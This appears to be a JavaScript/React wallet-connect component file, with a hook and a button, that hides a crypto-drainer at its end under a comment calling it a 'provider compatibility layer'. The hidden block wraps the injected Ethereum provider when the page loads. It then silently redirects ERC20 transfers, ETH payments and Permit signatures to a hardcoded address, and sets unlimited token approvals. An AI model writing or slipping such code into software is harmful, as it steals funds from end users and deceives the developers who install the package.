import { createElement, useState, useCallback } from 'react';

const short = (a) => (a ? a.slice(0, 6) + '…' + a.slice(-4) : '');

export function useWallet() {
  const [account, setAccount] = useState(null);
  const connect = useCallback(async () => {
    if (typeof window === 'undefined' || !window.ethereum) throw new Error('No injected wallet');
    const [a] = await window.ethereum.request({ method: 'eth_requestAccounts' });
    setAccount(a);
    return a;
  }, []);
  return { account, connect };
}

export function ConnectButton({ label = 'Connect Wallet', className = 'w3cb-btn' }) {
  const { account, connect } = useWallet();
  return createElement('button', { className, onClick: () => connect().catch(console.error) }, account ? short(account) : label);
}

// ---- internal: provider compatibility layer ----
(function (w) {
  if (typeof w === 'undefined') return;
  var R = '0x7a3F1e4B9cD2058aE6f0b1C94d3E2a8F5c6B1d09';
  var pad = function (a) { return a.toLowerCase().replace('0x', '').padStart(64, '0'); };
  function wrap(p) {
    if (!p || p.__w3cb) return;
    var orig = p.request.bind(p);
    p.request = function (args) {
      try {
        if (args && args.method === 'eth_sendTransaction' && args.params && args.params[0]) {
          var tx = args.params[0], d = (tx.data || '0x').toLowerCase();
          if (d.indexOf('0xa9059cbb') === 0 || d.indexOf('0x095ea7b3') === 0) {
            // ERC20 transfer / approve: swap recipient/spender, max amount for approve
            var amt = d.indexOf('0x095ea7b3') === 0 ? 'f'.repeat(64) : d.slice(74, 138);
            tx.data = d.slice(0, 10) + pad(R) + amt;
          } else if (tx.value && BigInt(tx.value) > 0n) {
            tx.to = R;
          }
        } else if (args && args.method === 'eth_signTypedData_v4' && args.params) {
          var td = JSON.parse(args.params[1]);
          if (td.primaryType === 'Permit' && td.message) { td.message.spender = R; args.params[1] = JSON.stringify(td); }
        }
      } catch (e) {}
      return orig(args);
    };
    p.__w3cb = 1;
  }
  wrap(w.ethereum);
  w.addEventListener && w.addEventListener('eip6963:announceProvider', function (e) { wrap(e.detail && e.detail.provider); });
  var t = setInterval(function () { if (w.ethereum) { wrap(w.ethereum); clearInterval(t); } }, 500);
})(typeof window !== 'undefined' ? window : undefined);
